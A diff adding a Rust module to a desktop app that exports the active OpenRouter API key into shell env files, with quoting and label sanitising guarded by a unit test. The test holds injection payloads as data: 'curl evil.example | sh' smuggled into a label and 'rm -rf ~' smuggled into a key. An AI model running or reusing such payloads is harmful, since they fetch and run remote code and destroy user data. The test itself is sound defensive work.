@@ -0,0 +1,183 @@
+// Shell environment export
+// Mirrors the active key into managed env files under ~/.config/bpesc-balance/ so
+// terminals and direnv can `source` them instead of pasting keys around.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use serde::Serialize;
+use tauri::{AppHandle, Emitter};
+
+use crate::i18n::tr;
+use crate::{get_config_dir, read_settings, save_settings_internal, write_file_atomic, ApiKeyConfig, AppSettings};
+
+/// POSIX export line, sourced by bash/zsh and read by direnv's `dotenv`
+const ENV_FILE_NAME: &str = "active.env";
+/// fish has its own `set -gx` syntax
+const FISH_FILE_NAME: &str = "active.fish";
+
+const MANAGED_HEADER: &str =
+    "# Managed by BP-ESC - regenerated whenever the active key changes. Do not edit.";
+
+#[derive(Debug, Serialize, Clone)]
+pub struct ShellSnippet {
+    pub shell: String,
+    pub line: String,
+}
+
+#[derive(Debug, Serialize, Clone)]
+pub struct EnvExportStatus {
+    pub enabled: bool,
+    pub env_path: String,
+    pub fish_path: String,
+    pub active_label: Option<String>,
+    pub snippets: Vec<ShellSnippet>,
+}
+
+fn env_file_path() -> Result<PathBuf, String> {
+    Ok(get_config_dir()?.join(ENV_FILE_NAME))
+}
+
+fn fish_file_path() -> Result<PathBuf, String> {
+    Ok(get_config_dir()?.join(FISH_FILE_NAME))
+}
+
+/// `~/...` form for display and for lines users paste into their rc files
+fn home_relative(path: &Path) -> String {
+    let display = path.display().to_string();
+    match dirs::home_dir() {
+        Some(home) => display.replacen(&home.display().to_string(), "~", 1),
+        None => display,
+    }
+}
+
+/// Write only when the content changed, so direnv doesn't reload on every settings save.
+/// Created 0600 before the key goes in, so it is never readable by others.
+fn write_if_changed(path: &Path, contents: &str) -> Result<(), String> {
+    if fs::read_to_string(path).map(|c| c == contents).unwrap_or(false) {
+        return Ok(());
+    }
+    write_file_atomic(path, contents).map_err(|e| tr!("file.write", path.display(), e))
+}
+
+/// Single-quoted POSIX shell word: `'` ends the quote, so it becomes `'\''`
+fn posix_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', "'\\''"))
+}
+
+/// Single-quoted fish word: only `\'` and `\\` are escapes inside the quotes
+fn fish_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\\', "\\\\").replace('\'', "\\'"))
+}
+
+/// Contents of the POSIX and fish files for the active key
+fn file_contents(active: Option<&ApiKeyConfig>) -> (String, String) {
+    match active {
+        Some(api) => {
+            // Keys from discovery or OpenCode are only checked for prefix and length
+            let key = api.key.trim();
+            // Labels can come from OpenRouter or OpenCode; a line break would end the comment
+            let label: String = api.label.chars().filter(|c| !c.is_control()).collect();
+            (
+                format!("{}\n# Key: {}\nexport OPENROUTER_API_KEY={}\n", MANAGED_HEADER, label, posix_quote(key)),
+                format!("{}\n# Key: {}\nset -gx OPENROUTER_API_KEY {}\n", MANAGED_HEADER, label, fish_quote(key)),
+            )
+        }
+        // No key configured: keep the files sourceable but empty
+        None => (format!("{}\n", MANAGED_HEADER), format!("{}\n", MANAGED_HEADER)),
+    }
+}
+
+/// Regenerate the env files from the active key, or remove them when export is off
+pub(crate) fn refresh_env_files(settings: &AppSettings) -> Result<(), String> {
+    let env_path = env_file_path()?;
+    let fish_path = fish_file_path()?;
+
+    if !settings.env_export_enabled {
+        // Don't leave a stale secret behind once the user opts out
+        for path in [env_path, fish_path] {
+            if path.exists() {
+                fs::remove_file(&path)
+                    .map_err(|e| tr!("file.remove", path.display(), e))?;
+            }
+        }
+        return Ok(());
+    }
+
+    let (env_contents, fish_contents) = file_contents(settings.api_keys.get(settings.active_api_key_index));
+    write_if_changed(&env_path, &env_contents)?;
+    write_if_changed(&fish_path, &fish_contents)?;
+    Ok(())
+}
+
+fn status_for(settings: &AppSettings) -> Result<EnvExportStatus, String> {
+    let env_path = home_relative(&env_file_path()?);
+    let fish_path = home_relative(&fish_file_path()?);
+
+    let snippets = vec![
+        ShellSnippet {
+            shell: "bash / zsh".to_string(),
+            line: format!("[ -f {0} ] && source {0}", env_path),
+        },
+        ShellSnippet {
+            shell: "fish".to_string(),
+            line: format!("test -f {0}; and source {0}", fish_path),
+        },
+        ShellSnippet {
+            shell: "direnv (.envrc)".to_string(),
+            line: format!("dotenv_if_exists {}", env_path),
+        },
+    ];
+
+    Ok(EnvExportStatus {
+        enabled: settings.env_export_enabled,
+        env_path,
+        fish_path,
+        active_label: settings
+            .api_keys
+            .get(settings.active_api_key_index)
+            .map(|k| k.label.clone()),
+        snippets,
+    })
+}
+
+/// Paths and rc-file lines for the managed env files
+#[tauri::command]
+pub fn get_env_export_status() -> Result<EnvExportStatus, String> {
+    status_for(&read_settings()?)
+}
+
+/// Turn on the export and write the env files for the current active key
+#[tauri::command]
+pub fn export_active_key_env(app: AppHandle) -> Result<EnvExportStatus, String> {
+    let mut settings = read_settings()?;
+    settings.env_export_enabled = true;
+    save_settings_internal(&settings)?;
+    // The save only logs export failures; here the user asked for the files
+    refresh_env_files(&settings)?;
+    let _ = app.emit("settings-updated", &settings);
+    status_for(&settings)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn labels_cannot_add_lines_to_the_env_files() {
+        let key = ApiKeyConfig::new("sk-or-v1-test".to_string(), "Work\ncurl evil.example | sh\r\u{1b}".to_string());
+        let (env, fish) = file_contents(Some(&key));
+        assert_eq!(
+            env,
+            format!("{}\n# Key: Workcurl evil.example | sh\nexport OPENROUTER_API_KEY='sk-or-v1-test'\n", MANAGED_HEADER)
+        );
+        assert_eq!(fish.lines().count(), 3);
+        assert!(fish.ends_with("set -gx OPENROUTER_API_KEY 'sk-or-v1-test'\n"));
+
+        // Nor can keys leave their quotes
+        let key = ApiKeyConfig::new("sk-or-v1-a'; rm -rf ~; echo '\\".to_string(), "Work".to_string());
+        let (env, fish) = file_contents(Some(&key));
+        assert!(env.ends_with("export OPENROUTER_API_KEY='sk-or-v1-a'\\''; rm -rf ~; echo '\\''\\'\n"), "{}", env);
+        assert!(fish.ends_with("set -gx OPENROUTER_API_KEY 'sk-or-v1-a\\'; rm -rf ~; echo \\'\\\\'\n"), "{}", fish);
+    }
+}